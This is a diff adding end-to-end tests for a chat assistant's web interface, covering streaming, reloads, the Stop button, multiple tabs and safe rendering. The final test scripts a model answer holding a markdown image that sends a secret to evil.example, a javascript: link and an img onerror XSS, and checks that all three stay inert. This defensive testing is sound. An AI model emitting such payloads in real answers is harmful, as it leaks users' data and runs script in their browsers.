@@ -1,0 +1,84 @@
+import { ask, expect, openChat, test } from './product.ts'
+import { pause } from './scripted-model.ts'
+
+const question = 'Who sold his birthright for lentil stew?'
+
+test('streams the model’s answer and proves its quotations', async ({ page, assistant }) => {
+  assistant.model.says(['Esau sold it: “thus Esau despised his ', 'birthright” [1]. ', 'He also said “I never said this at all” [1].'])
+  await openChat(page, assistant.url, 'en')
+  await ask(page, question)
+  const answer = page.getByRole('article')
+  await expect(answer.locator('[data-status=proven]')).toHaveCount(1)
+  await expect(answer).not.toContainText('“I never said this at all”')
+  await expect(answer.getByText('No language model is connected')).toHaveCount(0)
+})
+
+test('a reload in the middle shows the text so far, then the rest, once each', async ({ page, assistant }) => {
+  assistant.model.says(['The first half. ', pause, 'The second half.'])
+  await openChat(page, assistant.url, 'en')
+  await ask(page, question)
+  await expect(page.getByRole('article')).toContainText('The first half.')
+  await page.reload()
+  await expect(page.getByRole('article')).toContainText('The first half.')
+  await expect(page.getByRole('log')).toHaveAttribute('aria-busy', 'true')
+  assistant.model.release()
+  await expect(page.getByRole('article')).toContainText('The first half. The second half.')
+  const text = await page.getByRole('article').innerText()
+  expect(text.split('The first half.')).toHaveLength(2)
+})
+
+test('Stop keeps what was written, marks it, and ends the provider’s call', async ({ page, assistant }) => {
+  const before = assistant.model.aborted()
+  assistant.model.says(['Only this much. ', pause, 'Never seen.'])
+  await openChat(page, assistant.url, 'en')
+  await ask(page, question)
+  await expect(page.getByRole('article')).toContainText('Only this much.')
+  await page.getByRole('button', { name: 'Stop' }).click()
+  await expect(page.getByText('Stopped', { exact: true })).toBeVisible()
+  await expect.poll(() => assistant.model.aborted()).toBe(before + 1)
+  assistant.model.release()
+  await page.reload()
+  await expect(page.getByRole('article')).toContainText('Only this much.')
+  await expect(page.getByRole('article')).not.toContainText('Never seen.')
+  await expect(page.getByRole('textbox')).toBeEditable()
+})
+
+test('a second tab sees the same answer grow and can stop it', async ({ context, page, assistant }) => {
+  assistant.model.says(['Seen in both. ', pause, 'Never seen.'])
+  await openChat(page, assistant.url, 'en')
+  await ask(page, question)
+  await expect(page.getByRole('article')).toContainText('Seen in both.')
+  const second = await context.newPage()
+  await second.goto(page.url())
+  await expect(second.getByRole('article')).toContainText('Seen in both.')
+  await second.getByRole('button', { name: 'Stop' }).click()
+  await expect(page.getByText('Stopped', { exact: true })).toBeVisible()
+  assistant.model.release()
+})
+
+test('closing the page does not stop the answer', async ({ context, page, assistant }) => {
+  assistant.model.says(['Before. ', pause, 'After.'])
+  await openChat(page, assistant.url, 'en')
+  await ask(page, question)
+  await expect(page.getByRole('article')).toContainText('Before.')
+  const address = page.url()
+  await page.close()
+  assistant.model.release()
+  const later = await context.newPage()
+  await later.goto(address)
+  await expect(later.getByRole('article')).toContainText('Before. After.')
+})
+
+test('instructions, images and scripts in an answer stay words', async ({ page, assistant }) => {
+  const outside: string[] = []
+  page.on('request', (request) => {
+    if (!request.url().startsWith(assistant.url) && !request.url().startsWith('data:')) outside.push(request.url())
+  })
+  assistant.model.says(['Look ![x](https://evil.example/?q=secret) and [click](javascript:alert(1)) <img src=x onerror=alert(1)> end.'])
+  await openChat(page, assistant.url, 'en')
+  await ask(page, question)
+  await expect(page.getByRole('article')).toContainText('end.')
+  await expect(page.getByRole('article').locator('img')).toHaveCount(0)
+  await expect(page.locator('a[href^="javascript"]')).toHaveCount(0)
+  expect(outside).toEqual([])
+})
